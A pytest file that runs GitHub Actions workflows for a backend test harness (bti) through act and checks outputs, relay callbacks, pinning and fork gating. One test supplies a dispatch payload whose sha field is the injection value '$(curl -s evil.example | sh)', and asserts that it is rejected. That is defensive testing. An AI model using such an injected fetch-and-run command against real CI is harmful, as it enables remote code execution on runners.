"""The composite action and the workflows, executed by act on this host (see tests/actions/act.py).

Each scenario asserts job conclusions, step outputs, the job summary, the artifacts and the API calls.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from ..github_fake import FakeGitHub
from .act import HERE, ROOT, commit_tree, git, run_act
from .conftest import CALLER, _call, _job, _records

pytestmark = pytest.mark.act


# ---------------------------------------------------------------------------------------------- (a) and (d)
@pytest.mark.parametrize(("recipes", "failing"), [("portable,fault-mul", True), ("portable", False)],
                         ids=["a-one-unexpected-failure", "d-all-pass"])
def test_composite_action(scenario, fake: FakeGitHub, recipes: str, failing: bool) -> None:
    sc = scenario("action.yml")
    run = sc.run("pull_request", sc.pull_request_event(), fake,
                 variables={"RECIPES": recipes, "RELAY_URL": f"{fake.base}/_relay/callback"})
    job = "action/suite"
    assert run.jobs == {job: "failure" if failing else "success"}, run.log[-4000:]
    steps = run.steps(job)
    outputs = run.marked(job, "BTI-OUTPUTS")[0]
    n_recipes = len(recipes.split(","))
    assert int(outputs["total"]) == 4 * n_recipes
    assert outputs["exit-code"] == ("1" if failing else "0")
    assert int(outputs["failed"]) == (1 if failing else 0)
    assert int(outputs["passed"]) == 4 * n_recipes - int(outputs["failed"])
    assert run.marked(job, "BTI-OUTCOME") == ["failure" if failing else "success"]
    summary = run.summary(job)
    assert summary.startswith("# bti results: " + ("❌ 1 unexpected failure" if failing else "✅")), summary[:300]
    assert ("op.mul.a[float32,static]@fault-mul" in summary) == failing, summary[:3000]
    # the upload ran after the failure; its artifact holds every report
    art = run.artifacts / "bti-results-all"
    assert {"results.jsonl", "junit.xml", "summary.md", "dashboard.html"} <= {p.name for p in art.iterdir()}
    recs = _records(art / "results.jsonl")
    bad = [r["id"] for r in recs if r["status"] not in ("PASS", "PASS_UNDELEGATED")]
    assert bad == (["op.mul.a[float32,static]@fault-mul"] if failing else [])
    assert steps["Run bti"] == "success"  # bti exit 1 is recorded, not raised by bash -e
    assert steps["Job summary and counts"] == steps["Upload results"] == "success", steps
    assert steps.get("Fail on unexpected failures") == ("failure" if failing else None), steps
    # publish is off: the only call is the relay callback, in RFC-0050's shape
    assert [p for _, p, _ in fake.log] == ["/_relay/callback"]
    (cb,) = fake.relay
    assert cb["status"] == "completed" and cb["conclusion"] == ("failure" if failing else "success")
    assert cb["test_counts"] == {"passed": int(outputs["passed"]), "failed": int(outputs["failed"]), "skipped": 0}
    assert cb["job_name"] == "action / suite / bti-results-all" and cb["artifact_url"].endswith("/actions/runs/1#artifacts")
    assert [t["name"] for t in cb["failed_tests"]] == bad


# ---------------------------------------------------------------------------------------------- the other pair
def _other_pair() -> dict[str, str]:
    """The matrix pair that is not installed here, from its constraints file (torch and executorch pins)."""
    from harness.versions import installed_version

    for path in sorted((Path(__file__).resolve().parents[2] / "constraints").glob("executorch-*.txt")):
        pins = dict(line.split("==", 1) for line in path.read_text().splitlines() if "==" in line and not line.startswith("#"))
        if pins.get("executorch") != installed_version("executorch"):
            return {k: pins[k] for k in ("torch", "executorch")}
    raise AssertionError("no other pair in constraints/")


def test_other_pair_through_executorch_spec(scenario, fake: FakeGitHub) -> None:
    """The composite action installs the matrix's other pair (torch-spec + executorch-spec in one resolve) over a
    runner whose interpreter has this pair, runs real programs on it, and the results header records what ran."""
    other = _other_pair()
    sc = scenario("pair.yml")
    run = sc.run("pull_request", sc.pull_request_event(), fake, index=True,
                 variables={"TORCH_SPEC": f"torch=={other['torch']}", "EXECUTORCH_SPEC": f"executorch=={other['executorch']}"})
    assert run.jobs == {"pair/suite": "success"}, run.log[-4000:]
    lines = [json.loads(x) for x in (run.artifacts / "bti-results-all" / "results.jsonl").read_text().splitlines()]
    header, recs = lines[0], lines[1:]
    assert header["versions"]["executorch"] == other["executorch"]
    assert header["versions"]["torch"].split("+")[0] == other["torch"]
    assert len(recs) == 8 and all(r["status"] in ("PASS", "PASS_UNDELEGATED") for r in recs), [(r["id"], r["status"]) for r in recs]
    assert any(r["delegate_blobs"] for r in recs if r["recipe"] == "xnnpack")  # lowered to XNNPACK and ran


# ---------------------------------------------------------------------------------------------- (f) the dispatch receiver
def test_f_hostile_repository_dispatch_is_rejected_before_any_bti_step(act_home: Path, tmp_path: Path, fake: FakeGitHub) -> None:
    bti_repo = act_home / "repos" / "bti-org" / "bti"
    event = {"action": "upstream-pull-request", "branch": "main",
             "client_payload": {"repo": "pytorch/executorch", "sha": "$(curl -s evil.example | sh)", "pr": "12",
                                "recipes": "xnnpack"},
             "repository": {"full_name": "bti-org/bti", "name": "bti", "owner": {"login": "bti-org"}},
             "sender": {"login": "mallory"}}
    run = run_act(bti_repo, "on-dispatch.yml", "repository_dispatch", event, home=act_home, tmp=tmp_path, api_url=fake.base)
    job = "bti on dispatch/validate"
    assert run.code != 0 and run.jobs == {"bti on dispatch/validate": "failure"}, run.jobs  # the suite's jobs never start
    steps = run.steps(job)
    assert steps["Validate the payload (compact or relay form); rejects anything that is not a plain sha/repo/number/name"] == "failure"
    assert "bti: error: client_payload.sha: expected 40 hex characters" in run.output(job)
    assert not any("bti run" in e.get("msg", "") or "Run bti" in e.get("msg", "") for e in run.events)
    assert not run.set_outputs(job).get("sha") and not list(run.artifacts.iterdir()) and not fake.log


def _group(inputs: dict[str, str], github: dict[str, str]) -> str:
    """backend-suite.yml's concurrency group for one call (act does not evaluate concurrency: this does, for `a || b`)."""
    import yaml

    text = yaml.safe_load((ROOT / ".github/workflows/backend-suite.yml").read_text())["concurrency"]["group"]

    def value(operand: str) -> str:
        scope, _, name = operand.strip().partition(".")
        return {"inputs": inputs, "github": github}[scope].get(name, "")

    return re.sub(r"\$\{\{(.*?)\}\}", lambda m: next((v for v in map(value, m.group(1).split("||")) if v), ""), text, flags=re.S)


def test_g_two_calls_have_distinct_concurrency_groups() -> None:
    import yaml

    doc = yaml.safe_load((HERE / "workflows" / "twice.yml").read_text())
    github = {"repository": CALLER, "ref": "refs/pull/7/merge"}
    groups = [_group({k: str(v) for k, v in job["with"].items() if "${{" not in str(v)} | {"pr": "7"}, github)
              for job in doc["jobs"].values()]
    assert len(groups) == 2 and groups[0] != groups[1], groups
    # the same call on the same PR shares its group, so a newer push cancels the older run
    assert _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, github) == \
        _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, {**github, "sha": "another"})


# ---------------------------------------------------------------------------------------------- what runs is what was asked
@pytest.mark.parametrize(("oidc", "bti_ref", "message"), [
    (False, "main", "no OIDC token to read the pinned commit from (grant `id-token: write` to the calling job), and bti-ref 'main'"),
    (True, "0" * 40, f"bti-ref '{'0' * 40}' is not the commit this workflow was called at"),
], ids=["branch-without-oidc", "other-sha-than-pinned"])
def test_unpinned_bti_is_refused_before_any_runner_job(scenario, fake: FakeGitHub, oidc: bool, bti_ref: str, message: str) -> None:
    _, run = _call(scenario, fake, recipes="portable", shards=1, oidc=oidc, variables={"BTI_REF": bti_ref})
    plan = _job(run, "plan")
    assert run.code != 0 and run.jobs == {plan: "failure"}, run.jobs
    assert "bti refuses to run unpinned code: " + message in run.log
    assert not list(run.artifacts.iterdir()) and not fake.comments and not fake.check_runs


def test_fork_pr_does_not_reach_self_hosted_runners_without_the_label(scenario, fake: FakeGitHub) -> None:
    _, run = _call(scenario, fake, recipes="portable", shards=1, fork=True, variables={"FORK_PRS": "label"},
                   labels_on_pr=("unrelated",), oidc=False)
    plan = _job(run, "plan")
    assert run.code != 0 and run.jobs == {plan: "failure"}, run.jobs
    assert run.steps(plan)["Fork pull requests"] == "failure"
    assert "this fork pull request does not run on self-hosted runners (fork-prs: label)" in run.log
    assert not list(run.artifacts.iterdir()) and not fake.comments


def _tiny_upstream(home: Path) -> tuple[Path, str, str]:
    """pytorch/tinyup: a tiny package at two commits (the second is the dispatched PR head)."""
    repo = home / "repos" / "pytorch" / "tinyup"
    src = home / "tinyup-src"
    src.mkdir(exist_ok=True)
    (src / "pyproject.toml").write_text('[build-system]\nrequires = ["setuptools>=77"]\nbuild-backend = "setuptools.build_meta"\n'
                                        '[project]\nname = "tinyup"\nversion = "0.1.0"\n[tool.setuptools]\npy-modules = ["tinyup"]\n')
    (src / "tinyup.py").write_text("VALUE = 1\n")
    first = commit_tree({Path("pyproject.toml"): src / "pyproject.toml", Path("tinyup.py"): src / "tinyup.py"}, repo, "pytorch/tinyup")
    (repo / "tinyup.py").write_text("VALUE = 2\n")
    git(repo, "commit", "-qam", "the PR")
    return repo, first, git(repo, "rev-parse", "HEAD")


@pytest.mark.parametrize("install", ["pip", ""], ids=["installed", "not-installed"])
def test_dispatched_upstream_commit_is_what_is_tested(scenario, httpserver, act_home: Path, install: str) -> None:
    fake = FakeGitHub(httpserver.url_for("/"), repo="pytorch/tinyup")
    httpserver.expect_request(re.compile(".*")).respond_with_handler(fake)
    upstream, first, head = _tiny_upstream(act_home)
    sc = scenario("upstream.yml")
    event = {"action": "upstream-pull-request", "client_payload": {"repo": "pytorch/tinyup", "sha": head, "pr": "5"},
             "repository": {"full_name": CALLER}}
    run = sc.run("repository_dispatch", event, fake, oidc=False,
                 variables={"UPSTREAM_INSTALL": install, "UPSTREAM_URL": f"file://{upstream}"})
    job = "upstream/suite"
    header = json.loads((run.artifacts / "bti-results-all" / "results.jsonl").read_text().splitlines()[0])
    got = header["upstream"]["installed"]
    assert header["upstream"]["sha"] == head and got["package"] == "tinyup"
    if install:
        assert run.jobs == {job: "success"}, run.jobs
        assert got["commit"] == head != first and got["url"] == f"file://{upstream}"
        (check,) = fake.check_runs.values()
        assert check["head_sha"] == head and check["conclusion"] == "success"
    else:
        assert got["commit"] is None and got["version"] is None  # nothing of the upstream was installed
        assert run.jobs == {job: "success"}, run.jobs  # publishing is best effort: a refusal warns
        assert f"refusing to post on pytorch/tinyup@{head[:12]}: the results were produced with tinyup None" in run.log
        assert not fake.check_runs and not fake.statuses


def test_docs_vendor_snippet_runs_as_written(scenario, fake: FakeGitHub) -> None:
    readme = (ROOT / "docs" / "github-actions.md").read_text()
    block = readme.split("## Joining from a vendor repo", 1)[1].split("```yaml\n", 1)[1].split("```", 1)[0]
    assert "@" + "0" * 40 in block
    sc = scenario("bti.yml", block.replace("0" * 40, "BTI_SHA"))
    run = sc.run("pull_request", sc.pull_request_event(), fake)
    assert run.jobs and all(r == "success" for r in run.jobs.values()), run.jobs
    merged = next(p for p in run.artifacts.iterdir() if p.name.endswith("-merged"))
    recs = _records(merged / "results.jsonl")
    assert recs and {r["recipe"] for r in recs} == {"acme-npu"} and all(r["status"] == "PASS" for r in recs)
    assert all(r["backend"] == "fault" for r in recs)  # the plugin from the vendor's repo ran
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "✅ all items passed or were expected" in body


def test_vendor_caller_template_runs_on_a_pull_request(scenario, fake: FakeGitHub) -> None:
    """workflows/vendor-caller.yml as a vendor copies it (its suites cut to the caller's four-op suite): on a pull
    request, `validate` is skipped, both recipes run with the env they require, and the comment and the check land."""
    text = (ROOT / "workflows" / "vendor-caller.yml").read_text()
    suites = next(line for line in text.splitlines() if line.strip().startswith("suites:"))
    sc = scenario("bti.yml", text.replace("0" * 40, "BTI_SHA").replace(suites, "      suites: suites/tiny.yaml"))
    run = sc.run("pull_request", sc.pull_request_event(), fake)
    assert run.jobs and all(r == "success" for j, r in run.jobs.items() if "validate" not in j), run.jobs
    merged = next(p for p in run.artifacts.iterdir() if p.name.endswith("-merged"))
    recs = _records(merged / "results.jsonl")
    assert {r["recipe"] for r in recs} == {"acme-npu", "acme-npu-int8"} and all(r["status"] == "PASS" for r in recs), recs
    assert {r["reference"] for r in recs if r["recipe"] == "acme-npu-int8"} == {"quantized"}
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "`acme-npu`" in body and "`acme-npu-int8`" in body
    (check,) = fake.check_runs.values()
    assert check["head_sha"] == sc.sha and check["conclusion"] == "success" and check["name"] == "bti/bti"
